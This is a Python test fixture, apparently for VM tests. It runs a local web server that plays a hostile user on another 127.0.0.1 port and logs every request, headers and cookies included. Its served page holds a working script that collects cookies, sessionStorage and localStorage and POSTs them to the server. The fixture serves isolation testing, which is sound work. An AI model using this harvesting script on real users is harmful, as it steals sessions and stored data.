"""Another local user's web server on another port of 127.0.0.1, as VM tests run it inside the
test machine (Debian's own python3, as that user, a `Type=notify` service):

    other_port.py PORT SEEN

It answers `GET /` with a page whose script takes all it can of what the owner's browser keeps
for 127.0.0.1 (document.cookie, sessionStorage, localStorage) and reports it with
`POST /report`. Every request it gets is appended to SEEN as one JSON line, its headers
included: the cookies the browser sent along are the server's to keep too.
"""

import json
import subprocess
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

PAGE = b"""<!doctype html>
<meta charset="utf-8">
<title>cat pictures</title>
<p>Nothing to see here.</p>
<script>
const kept = (storage) => Object.fromEntries(Object.entries(storage));
const found = { cookie: document.cookie, session: kept(sessionStorage), local: kept(localStorage) };
fetch("/report", { method: "POST", body: JSON.stringify(found) })
  .then(() => { document.title = "reported"; });
</script>
"""


class Seen:
    def __init__(self, path: Path) -> None:
        self.path = path
        self.lock = threading.Lock()

    def add(self, record: dict[str, object]) -> None:
        with self.lock, self.path.open("a") as seen:
            seen.write(json.dumps(record) + "\n")


def handler(seen: Seen) -> type[BaseHTTPRequestHandler]:
    class Handler(BaseHTTPRequestHandler):
        def _record(self, body: bytes) -> None:
            seen.add(
                {
                    "method": self.command,
                    "path": self.path,
                    "headers": [[name, value] for name, value in self.headers.items()],
                    "body": body.decode(errors="replace"),
                }
            )

        def _answer(self, status: int, body: bytes, kind: str = "text/html") -> None:
            self.send_response(status)
            self.send_header("Content-Type", kind)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def do_GET(self) -> None:
            self._record(b"")
            if self.path == "/":
                self._answer(200, PAGE)
            else:
                self._answer(404, b"no such page", "text/plain")

        def do_POST(self) -> None:
            length = int(self.headers.get("Content-Length") or 0)
            self._record(self.rfile.read(length))
            self._answer(204, b"")

        def log_message(self, format: str, *args: object) -> None:
            pass

    return Handler


def main() -> None:
    port, seen = int(sys.argv[1]), Seen(Path(sys.argv[2]))
    server = ThreadingHTTPServer(("127.0.0.1", port), handler(seen))
    # Its unit is started with NotifyAccess=all: the message comes from systemd-notify.
    subprocess.run(["systemd-notify", "--ready"], check=True)
    server.serve_forever()


if __name__ == "__main__":
    main()
